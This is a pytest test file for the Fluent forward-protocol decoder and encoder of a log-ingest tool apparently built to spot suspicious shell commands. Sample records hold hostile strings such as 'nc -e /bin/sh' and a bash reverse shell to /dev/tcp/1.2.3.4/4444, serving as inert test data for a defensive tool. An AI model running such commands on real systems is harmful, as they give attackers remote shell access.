"""The Fluent forward codec (shellsieve.serve.fluent), fed by a real client and by Fluent Bit's shapes."""

from __future__ import annotations

import base64
import gzip
import hashlib
import socket
import struct
import threading

import msgpack
import msgspec
import pytest
from fluent.sender import EventTime, FluentSender

from shellsieve.serve.fluent import (AckReader, ForwardDecoder, ForwardError, ForwardMessage, ack, encode_forward,
                                     event_time, new_chunk_id, record_line)

T0 = 1_700_000_000


def captured(send) -> bytes:
    """The bytes a FluentSender writes: `send(sender)` runs against a local socket we accept on."""
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    got = bytearray()

    def serve() -> None:
        conn, _ = server.accept()
        with conn:
            while data := conn.recv(65536):
                got.extend(data)

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        sender = FluentSender("app", host="127.0.0.1", port=port, nanosecond_precision=True)
        send(sender)
        sender.close()
        thread.join(10)
    finally:
        server.close()
    assert not thread.is_alive()
    return bytes(got)


def event_time_ext(sec: int, nsec: int = 0) -> msgpack.ExtType:
    return msgpack.ExtType(0, struct.pack(">II", sec, nsec))


def fluent_bit_entries(records: list[dict], sec: int = T0, metadata: bool = True) -> bytes:
    """Entries as Fluent Bit's out_forward sends them, concatenated: [[EventTime, metadata], record]
    (Retain_Metadata_In_Forward_Mode, on by default since v5.0.5), else [EventTime, record]."""
    return b"".join(msgpack.packb([[event_time_ext(sec + i, 500_000_000), {"k8s": "pod"}] if metadata else
                                   event_time_ext(sec + i, 500_000_000), r]) for i, r in enumerate(records))


def fluent_bit_options(entries: bytes, count: int, gzip_: bool = False, signal: int = 0) -> bytes:
    """The option map of out_forward's append_options(): always map32; chunk = hex of sha512[:16]."""
    pairs = [("chunk", hashlib.sha512(entries).digest()[:16].hex()), ("size", count)]
    if gzip_:
        pairs.append(("compressed", "gzip"))
    pairs.append(("fluent_signal", signal))
    return b"\xdf" + len(pairs).to_bytes(4, "big") + b"".join(msgpack.packb(k) + msgpack.packb(v) for k, v in pairs)


def fluent_bit_forward(tag: str, records: list[dict], metadata: bool = True) -> bytes:
    """A Forward-mode message as flush_forward_mode() writes it: header, raw entries, options."""
    entries = fluent_bit_entries(records, metadata=metadata)
    header = b"\x93" + msgpack.packb(tag) + b"\xdd" + len(records).to_bytes(4, "big")
    return header + entries + fluent_bit_options(entries, len(records))


def fluent_bit_gzip(tag: str, records: list[dict], members: int = 1) -> bytes:
    """CompressedPackedForward as out_forward writes it with Compress gzip: bin of gzip members."""
    entries = fluent_bit_entries(records)
    cut = len(entries) // members
    parts = [entries[i * cut:(i + 1) * cut if i < members - 1 else len(entries)] for i in range(members)]
    payload = b"".join(gzip.compress(p) for p in parts)
    return b"\x93" + msgpack.packb(tag) + msgpack.packb(payload) + fluent_bit_options(entries, len(records), True)


def decode_all(data: bytes, **kwargs) -> list[ForwardMessage]:
    return ForwardDecoder(**kwargs).feed(data)


class TestMessageMode:
    def test_fluent_logger_events(self) -> None:
        """Events sent by fluent-logger arrive with their tag, time and record, in order."""
        data = captured(lambda s: [s.emit_with_time("exec", T0 + i, {"n": i, "cmd": "bash -i"}) for i in range(3)])
        msgs = decode_all(data)
        assert [(m.tag, m.entries, m.chunk) for m in msgs] == [
            ("app.exec", [(float(T0 + i), {"n": i, "cmd": "bash -i"})], None) for i in range(3)]
        assert sum(m.size for m in msgs) == len(data)

    def test_fluent_logger_event_time(self) -> None:
        """With nanosecond_precision the EventTime extension gives the time to the sub-second."""
        data = captured(lambda s: s.emit_with_time("exec", EventTime(T0 + 0.25), {"a": 1}))
        assert data[len(msgpack.packb("app.exec")) + 1:][:2] == b"\xd7\x00"  # fixext8 type 0 on the wire
        (msg,) = decode_all(data)
        assert msg.entries == [(T0 + 0.25, {"a": 1})]

    def test_fluent_logger_bytes_values(self) -> None:
        """bin values and keys become text (invalid UTF-8 as U+FFFD), so the record is JSON."""
        data = captured(lambda s: s.emit_with_time("x", T0, {"raw": b"nc -e /bin/sh\xff", b"k": [b"v"]}))
        (msg,) = decode_all(data)
        assert msg.entries[0][1] == {"raw": "nc -e /bin/sh\ufffd", "k": ["v"]}

    def test_non_str_keys(self) -> None:
        """Map keys that are not strings (int, float, nil) become their str() at any depth."""
        (msg,) = decode_all(msgpack.packb(["t", T0, {1: 2, None: 3, "a": [{2.5: True}]}]))
        assert msg.entries[0][1] == {"1": 2, "None": 3, "a": [{"2.5": True}]}

    def test_bin_in_forward_entries(self) -> None:
        """bin values deep in Forward and PackedForward entries become text too."""
        entry = [T0, {"a": {"b": [b"x"]}}]
        forward = msgpack.packb(["t", [entry]])
        packed = msgpack.packb(["t", msgpack.packb(entry)])
        assert [m.entries[0][1] for m in decode_all(forward + packed)] == [{"a": {"b": ["x"]}}] * 2

    def test_option_chunk(self) -> None:
        """A Message-mode option map gives the chunk to ack."""
        (msg,) = decode_all(msgpack.packb(["t", T0, {"a": 1}, {"chunk": "c1"}]))
        assert msg.chunk == "c1" and msg.count == 1


class TestForwardMode:
    def test_fluent_bit_forward(self) -> None:
        """out_forward's default Forward mode gives every record, its EventTime and the chunk id."""
        records = [{"process": {"command_line": f"sh -i {i}"}} for i in range(5)]
        data = fluent_bit_forward("kube.var.log", records)
        (msg,) = decode_all(data)
        assert msg.tag == "kube.var.log" and msg.size == len(data)
        assert msg.entries == [(T0 + i + 0.5, r) for i, r in enumerate(records)]
        assert msg.chunk == hashlib.sha512(fluent_bit_entries(records)).digest()[:16].hex()
        assert len(msg.chunk) == 32

    def test_without_metadata(self) -> None:
        """Entries without metadata (Retain_Metadata_In_Forward_Mode off, or before v5.0.5) read the same."""
        records = [{"a": 1}, {"b": 2}]
        with_metadata, without = decode_all(fluent_bit_forward("t", records) + fluent_bit_forward("t", records, False))
        assert with_metadata.entries == without.entries == [(T0 + 0.5, {"a": 1}), (T0 + 1.5, {"b": 2})]

    def test_non_log_signal(self) -> None:
        """A metrics chunk (fluent_signal 1) comes with no entries but its chunk, to be acked and dropped."""
        data = b"\x93" + msgpack.packb("m") + msgpack.packb(b"cmetrics") + fluent_bit_options(b"x", 0, signal=1)
        (msg,) = decode_all(data)
        assert (msg.entries, msg.signal, msg.chunk) == ([], 1, hashlib.sha512(b"x").digest()[:16].hex())

    def test_float_and_int_times(self) -> None:
        """Entry times may be integers or floats."""
        (msg,) = decode_all(msgpack.packb(["t", [[T0, {"a": 1}], [T0 + 0.5, {"b": 2}]]]))
        assert [t for t, _ in msg.entries] == [T0, T0 + 0.5]


class TestPackedForward:
    def test_bin(self) -> None:
        """PackedForward entries in a bin decode like Forward mode's."""
        records = [{"n": i} for i in range(4)]
        (msg,) = decode_all(msgpack.packb(["t", fluent_bit_entries(records), {"size": 4}]))
        assert [r for _, r in msg.entries] == records

    def test_fluentd_str32_text(self) -> None:
        """Fluentd's out_forward form: entries in a str32 and option compressed "text" (none)."""
        entries = fluent_bit_entries([{"a": 1}, {"b": 2}])
        data = (b"\x93" + msgpack.packb("t") + b"\xdb" + len(entries).to_bytes(4, "big") + entries
                + msgpack.packb({"size": 2, "compressed": "text", "chunk": "q83vEjRWeJA=\n"}))
        (msg,) = decode_all(data)
        assert [r for _, r in msg.entries] == [{"a": 1}, {"b": 2}] and msg.chunk == "q83vEjRWeJA=\n"

    def test_gzip(self) -> None:
        """CompressedPackedForward (Compress gzip) gives the records back."""
        records = [{"n": i, "cmd": "bash -c 'sh -i >& /dev/tcp/1.2.3.4/4444 0>&1'"} for i in range(50)]
        (msg,) = decode_all(fluent_bit_gzip("t", records))
        assert [r for _, r in msg.entries] == records

    def test_gzip_members(self) -> None:
        """A payload of several concatenated gzip members is read whole."""
        records = [{"n": i} for i in range(9)]
        (msg,) = decode_all(fluent_bit_gzip("t", records, members=3))
        assert [r for _, r in msg.entries] == records

    def test_gzip_without_option(self) -> None:
        """A gzip payload without the compressed option is recognised by its magic, as in_forward does."""
        payload = gzip.compress(fluent_bit_entries([{"a": 1}]))
        assert decode_all(msgpack.packb(["t", payload]))[0].entries[0][1] == {"a": 1}

    def test_gzip_bomb(self) -> None:
        """Entries that inflate past max_decompressed_bytes raise ForwardError."""
        payload = gzip.compress(msgpack.packb([T0, {"a": "x" * 100_000}]))
        with pytest.raises(ForwardError, match="decompressed"):
            decode_all(msgpack.packb(["t", payload, {"compressed": "gzip"}]), max_decompressed_bytes=50_000)

    def test_zstd(self) -> None:
        """A compression other than gzip is refused by name."""
        with pytest.raises(ForwardError, match="zstd"):
            decode_all(msgpack.packb(["t", b"\x28\xb5\x2f\xfd", {"compressed": "zstd"}]))

    def test_cut_entry(self) -> None:
        """Packed entries that stop inside an entry raise ForwardError."""
        with pytest.raises(ForwardError, match="inside an entry"):
            decode_all(msgpack.packb(["t", fluent_bit_entries([{"a": 1}])[:-1]]))


class TestFraming:
    STREAM = (msgpack.packb(["a", T0, {"x": b"\x00"}]) + fluent_bit_forward("b", [{"i": i} for i in range(3)])
              + fluent_bit_gzip("c", [{"j": 1}, {"j": 2}]) + msgpack.packb(["d", fluent_bit_entries([{"k": 1}])]))

    def test_every_split(self) -> None:
        """Feeding the stream cut at any byte gives the same messages as feeding it whole."""
        whole = decode_all(self.STREAM)
        assert len(whole) == 4
        for cut in range(len(self.STREAM) + 1):
            dec = ForwardDecoder()
            assert dec.feed(self.STREAM[:cut]) + dec.feed(self.STREAM[cut:]) == whole
            assert dec.pending == 0

    def test_byte_by_byte(self) -> None:
        """Feeding one byte at a time gives the same messages, each as its last byte arrives."""
        dec, got = ForwardDecoder(), []
        for i in range(len(self.STREAM)):
            got += dec.feed(self.STREAM[i:i + 1])
        assert got == decode_all(self.STREAM)

    def test_pending(self) -> None:
        """A partial message is held, not returned."""
        dec = ForwardDecoder()
        assert dec.feed(self.STREAM[:10]) == [] and dec.pending == 10


class TestErrors:
    @pytest.mark.parametrize("data, message", [
        (msgpack.packb({"a": 1}), "array"),
        (msgpack.packb(["t"]), "2 to 4"),
        (msgpack.packb([1, T0, {}]), "tag"),
        (msgpack.packb(["t", T0, {}, {}, {}]), "3 or 4"),
        (msgpack.packb(["t", [], {}, {}]), "2 or 3"),
        (msgpack.packb(["t", T0, [1]]), "map"),
        (msgpack.packb(["t", [[T0]]]), "entry"),
        (msgpack.packb(["t", [["x", {}]]]), "time"),
        (msgpack.packb(["t", {"a": 1}]), "second item"),
        (msgpack.packb(["t", "not entries"]), "entry"),
        (msgpack.packb(["t", b"\x92\xc1"]), "0xc1"),
        (msgpack.packb(["t", [], "opt"]), "option"),
        (msgpack.packb(["t", [], {"chunk": 5}]), "chunk"),
        (b"\x93\xc1", "0xc1"),
        (b"\x92\xa2\xff\xfe\x90", "invalid msgpack"),
        (msgpack.packb(["PING", "host", "salt", "digest", "", ""]), "handshake"),
        (b"\x91" * 300, "nested"),
    ])
    def test_garbage(self, data: bytes, message: str) -> None:
        """What is not a forward message raises ForwardError saying what is wrong."""
        with pytest.raises(ForwardError, match=message):
            decode_all(data)

    def test_http_request(self) -> None:
        """Text sent to the port (an HTTP request) is refused, not buffered."""
        with pytest.raises(ForwardError):
            decode_all(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n")

    def test_oversize_declared(self) -> None:
        """A bin declaring more than max_message_bytes raises before its bytes arrive."""
        with pytest.raises(ForwardError, match="larger than 1000"):
            ForwardDecoder(max_message_bytes=1000).feed(b"\x93\xa1t\xc6" + (1 << 20).to_bytes(4, "big"))

    def test_oversize_buffered(self) -> None:
        """A message still incomplete past max_message_bytes raises."""
        dec = ForwardDecoder(max_message_bytes=1000)
        dec.feed(b"\x92\xa1t\xdd\x00\x01\x00\x00")
        with pytest.raises(ForwardError, match="larger than 1000"):
            for _ in range(200):
                dec.feed(msgpack.packb([T0, {}]))

    def test_limit_fits(self) -> None:
        """A message of exactly max_message_bytes is accepted."""
        data = msgpack.packb(["t", T0, {"a": "x" * 100}])
        assert len(decode_all(data, max_message_bytes=len(data))) == 1


class TestRecordLine:
    def test_json_line(self) -> None:
        """A record becomes one JSON line ending in a newline."""
        line = record_line({"a": 1, "b": ["x"]})
        assert line.endswith(b"\n") and line.count(b"\n") == 1
        assert msgspec.json.decode(line) == {"a": 1, "b": ["x"]}

    def test_decoded_record(self) -> None:
        """A decoded record with bin, other ext types and non-string keys encodes as JSON."""
        data = msgpack.packb(["t", T0, {1: b"\xffa", "e": msgpack.ExtType(5, b"\x01\x02"), "t": event_time_ext(T0)}])
        (msg,) = decode_all(data)
        assert msgspec.json.decode(record_line(msg.entries[0][1])) == {"1": "\ufffda", "e": "AQI=", "t": T0}

    def test_foreign_record(self) -> None:
        """A record built elsewhere with an ext value or an int key still becomes a JSON line."""
        record = {"e": msgspec.msgpack.Ext(1, b"\x01\x02"), 2: "x"}
        assert msgspec.json.decode(record_line(record)) == {"e": "AQI=", "2": "x"}


class TestAck:
    def test_ack_bytes(self) -> None:
        """ack() is the msgpack map {"ack": id} that out_forward waits for."""
        assert msgpack.unpackb(ack("0123abcd" * 4)) == {"ack": "0123abcd" * 4}

    def test_reader(self) -> None:
        """AckReader gives the acked ids of responses split anywhere."""
        stream = ack("a") + ack("bb") + msgpack.packb({"ack": "c", "extra": 1})
        for cut in range(len(stream) + 1):
            reader = AckReader()
            assert reader.feed(stream[:cut]) + reader.feed(stream[cut:]) == ["a", "bb", "c"]

    def test_reader_garbage(self) -> None:
        """A response that is not {"ack": str} raises ForwardError."""
        with pytest.raises(ForwardError, match="ack"):
            AckReader().feed(msgpack.packb(["ack", "x"]))


class TestEncodeForward:
    NOW = T0 + 0.75

    def round_trip(self, lines: list[bytes]) -> ForwardMessage:
        (msg,) = decode_all(encode_forward("shellsieve", lines, "c-1", self.NOW))
        return msg

    def test_round_trip(self) -> None:
        """Lines come back as the same records, with the tag, the chunk and their count."""
        records = [{"a": i, "nested": {"b": [1, "x", None, True, 1.5]}} for i in range(3)]
        msg = self.round_trip([msgspec.json.encode(r) + b"\n" for r in records])
        assert (msg.tag, msg.chunk, [r for _, r in msg.entries]) == ("shellsieve", "c-1", records)

    def test_wire_shape(self) -> None:
        """The message is [tag, [[EventTime, record]], {"chunk", "size"}] with EventTime as ext 0 of 8 bytes."""
        tag, entries, option = msgpack.unpackb(encode_forward("t", [b'{"a":1}', b"{}"], "c", self.NOW))
        assert tag == "t" and option == {"chunk": "c", "size": 2}
        assert entries[0][0] == msgpack.ExtType(0, struct.pack(">II", T0, 750_000_000))

    @pytest.mark.parametrize("record, expected", [
        ({"@timestamp": "2023-11-14T22:13:20.123456789Z"}, (T0, 123_456_789)),
        ({"@timestamp": "2023-11-15T00:13:20+02:00"}, (T0, 0)),
        ({"@timestamp": "2023-11-14 22:13:20.5"}, (T0, 500_000_000)),
        ({"timestamp": T0 + 0.25}, (T0, 250_000_000)),
        ({"date": (T0 * 1000 + 500)}, (T0, 500_000_000)),
        ({"time": "2023-11-14T22:13:20Z"}, (T0, 0)),
        ({"@timestamp": "yesterday", "time": T0}, (T0, 0)),
        ({"@timestamp": T0 + 5}, (T0, 750_000_000)),
        ({"timestamp": True}, (T0, 750_000_000)),
        ({"time": "2023-13-45T00:00:00Z"}, (T0, 750_000_000)),
        ({}, (T0, 750_000_000)),
    ])
    def test_event_time(self, record: dict, expected: tuple[int, int]) -> None:
        """The entry time is the record's @timestamp, timestamp, date or time when it parses, else now."""
        assert event_time(record, self.NOW) == expected

    def test_times_round_trip(self) -> None:
        """Decoded entries carry the times taken from the records."""
        msg = self.round_trip([b'{"@timestamp":"2023-11-14T22:13:20.5Z"}', b'{"x":1}'])
        assert [t for t, _ in msg.entries] == [T0 + 0.5, self.NOW]

    def test_not_objects(self) -> None:
        """A line that is not a JSON object is sent as {"message": line}."""
        msg = self.round_trip([b"type=EXECVE argc=3\n", b"[1,2]\n", b'"s"', b"\xff{\n"])
        assert [r for _, r in msg.entries] == [
            {"message": "type=EXECVE argc=3"}, {"message": "[1,2]"}, {"message": '"s"'}, {"message": "\ufffd{"}]

    def test_huge_integer(self) -> None:
        """A record holding an integer msgpack cannot carry is sent as its text."""
        line = b'{"n":123456789012345678901234567890}'
        assert self.round_trip([line]).entries[0][1] == {"message": line.decode()}

    def test_empty(self) -> None:
        """No lines make a message of no entries and size 0."""
        assert msgpack.unpackb(encode_forward("t", [], "c", self.NOW)) == ["t", [], {"chunk": "c", "size": 0}]


class TestChunkId:
    def test_format(self) -> None:
        """A chunk id is 16 random bytes in base64, different each time."""
        ids = {new_chunk_id() for _ in range(100)}
        assert len(ids) == 100
        assert all(len(base64.b64decode(i, validate=True)) == 16 for i in ids)
